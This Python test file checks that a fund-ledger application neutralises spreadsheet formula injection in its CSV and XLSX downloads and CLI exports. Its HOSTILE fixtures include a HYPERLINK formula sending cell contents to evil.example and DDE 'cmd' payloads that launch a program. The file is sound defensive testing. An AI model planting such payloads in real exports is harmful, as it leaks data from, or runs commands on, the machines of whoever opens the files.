"""Formula injection (issue 17 item 2): recorded text that begins like a spreadsheet formula must
reach Excel as text. Every CSV cell of recorded text that begins with ``=``, ``+``, ``-``, ``@``, tab
or CR is neutralised with a leading apostrophe (OWASP's CSV-injection guidance), and every XLSX text
cell is a string, never a formula — checked by opening the files with openpyxl, on both stores,
for every public download and for ``wushe export``."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from agreements import agreement, agreement_options
from fastapi.testclient import TestClient

from api.main import create_app
from api.settings import ApiSettings
from projections.exports import Column, Sheet, csv_text, xlsx_bytes

TOWN = "xianxiaxincun"
HOSTILE = {
    "fund": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "organisation": "+cmd|' /C calc'!A0",
    "project": "-2+3+cmd|' /C calc'!A0",
    "purpose": "@SUM(1+1)*cmd|' /C calc'!A0",
    "reason": "=1+1",
    "approval": "-1+1",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?[0-9]+(\.[0-9]+)?$")
PAGES = ("overview", f"street-towns/{TOWN}", "funds", "funds/EVIL", "projects", "projects/EVILP", "hours",
         "corrections")


def _seed(cast) -> None:
    led, acct = cast.ledger, cast.accountant
    led.register_organisation(cast.root, "EVILORG", HOSTILE["organisation"], "social_organisation", TOWN,
                              community=HOSTILE["reason"], registered_on=date(2021, 1, 1))
    led.open_fund(acct, "EVIL", HOSTILE["fund"], "CNCF", kind="special", restricted=True,
                  purpose=HOSTILE["purpose"], street_town=TOWN, domains=["elderly_care"], street_towns=[TOWN],
                  agreement=agreement(ref=HOSTILE["approval"], use=HOSTILE["purpose"]))
    led.record_donation(acct, "EVIL", 500_000, donor_type="business", donor_name=HOSTILE["fund"], donor_public=True)
    led.register_project(acct, "EVILP", HOSTILE["project"], street_town=TOWN, domain="elderly_care",
                         organisation="EVILORG", budget=100_000, funding_source="fund",
                         approval_ref=HOSTILE["approval"], reach=500, starts_on=date(2026, 1, 1), ends_on=date(2026, 12, 31))
    number = led.request_disbursement(acct, "EVIL", 10_000, project="EVILP", purpose=HOSTILE["purpose"]).ident
    led.approve_disbursement(cast.approver, number, approval_ref=HOSTILE["approval"])
    paid = led.pay_disbursement(acct, number).positions
    led.reverse(acct, paid[0], reason=HOSTILE["reason"])


def _dangerous(value: str) -> bool:
    return value.startswith(TRIGGERS) and not NUMBER.match(value)


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def _formulas(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [f"{ws.title}!{c.coordinate}={c.value!r}" for ws in book for row in ws.iter_rows() for c in row
            if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith("="))
            and c.data_type != "s"]


def _text_cells(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [c.value for ws in book for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


def test_every_download_of_every_page_reaches_a_spreadsheet_as_text(cast):
    _seed(cast)
    settings = ApiSettings(public_rate="100000/minute", auth_rate="100000/minute")
    with TestClient(create_app(ledger=cast.ledger, api_settings=settings)) as client:
        seen = set()
        for path in PAGES:
            tables = client.get(f"/downloads/json/{path}").json()["tables"]
            workbook = client.get(f"/downloads/xlsx/{path}")
            assert workbook.status_code == 200, path
            assert _formulas(workbook.content) == [], path
            seen.update(v for v in _text_cells(workbook.content) if v.lstrip("'") in HOSTILE.values())
            for table in tables:
                text = client.get(f"/downloads/csv/{path}", params={"table": table}).text
                cells = _csv_cells(text)
                assert [c for c in cells if _dangerous(c)] == [], (path, table)
                seen.update(c for c in cells if c.lstrip("'") in HOSTILE.values())
        # the hostile names did reach the files, neutralised, not dropped
        assert {"'" + HOSTILE["fund"], "'" + HOSTILE["project"], "'" + HOSTILE["reason"]} <= seen
        assert HOSTILE["fund"] in seen  # the XLSX keeps the text as it was recorded, as a string


def test_wushe_export_csv_and_xlsx_carry_no_formula(cli, tmp_path):
    cli("org", "register", "EVILORG", "--name", HOSTILE["organisation"], "--kind", "social_organisation",
        "--street-town", TOWN, "--registered-on", "2021-01-01", "--as", "root")
    cli("principal", "add", "acct", "--name", "会计", "--role", "accountant", "--foundation", "CNCF", "--as", "root")
    cli("fund", "open", "EVIL", "--name", HOSTILE["fund"], "--foundation", "CNCF", "--special",
        "--purpose", HOSTILE["purpose"], "--street-town", TOWN, "--domain", "elderly_care",
        *agreement_options(), "--as", "acct")
    cli("donation", "record", "--fund", "EVIL", "--amount", "800", "--donor-type", "resident", "--as", "acct")
    cli("project", "register", "EVILP", "--name", HOSTILE["project"], "--street-town", TOWN,
        "--domain", "elderly_care", "--organisation", "EVILORG", "--budget", "1000", "--funding-source", "fund",
        "--approval-ref", HOSTILE["approval"], "--starts-on", "2026-01-01", "--ends-on", "2026-12-31", "--reach", "500", "--as", "acct")
    period = ("--from", "2000-01-01", "--to", "2100-12-31")
    cli("export", "--format", "xlsx", *period, "--out", str(tmp_path / "report.xlsx"))
    data = (tmp_path / "report.xlsx").read_bytes()
    assert _formulas(data) == []
    assert HOSTILE["fund"] in _text_cells(data) and HOSTILE["purpose"] in _text_cells(data)
    cli("export", "--format", "csv", *period, "--out", str(tmp_path / "csv"))
    cells = [c for f in sorted(Path(tmp_path / "csv").glob("*.csv")) for c in _csv_cells(f.read_text("utf-8"))]
    assert [c for c in cells if _dangerous(c)] == []
    assert "'" + HOSTILE["fund"] in cells and "'" + HOSTILE["purpose"] in cells


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@A1", "\t=1+1", "\r=1+1", " =1+1", "＝1+1"])
def test_each_trigger_is_neutralised_and_numbers_stay_numbers(text):
    sheet = Sheet("t", "表", "Table", (Column("name", "名称", "Name"), Column("amount", "金额", "Amount", "yuan"),
                                         Column("count", "笔数", "Count", "int")),
                  ({"name": text, "amount": -1250, "count": -3},))
    row = list(csv.reader(io.StringIO(csv_text(sheet))))[1]
    assert row == ["'" + text, "-12.50", "-3"]
    data = xlsx_bytes([sheet])
    assert _formulas(data) == []
    cells = next(openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2, values_only=True))
    assert cells[1:] == (pytest.approx(-12.5), -3)
    assert cells[0] == text.replace("\r", "\n")  # the recorded text, as a string (XML reads CR as LF)


def test_plain_text_is_left_alone():
    sheet = Sheet("t", "表", "Table", (Column("name", "名称", "Name"),),
                  ({"name": "长者助餐 2026-01"}, {"name": "A-1"}, {"name": "三=二+一"}))
    assert [r[0] for r in csv.reader(io.StringIO(csv_text(sheet)))][1:] == ["长者助餐 2026-01", "A-1", "三=二+一"]
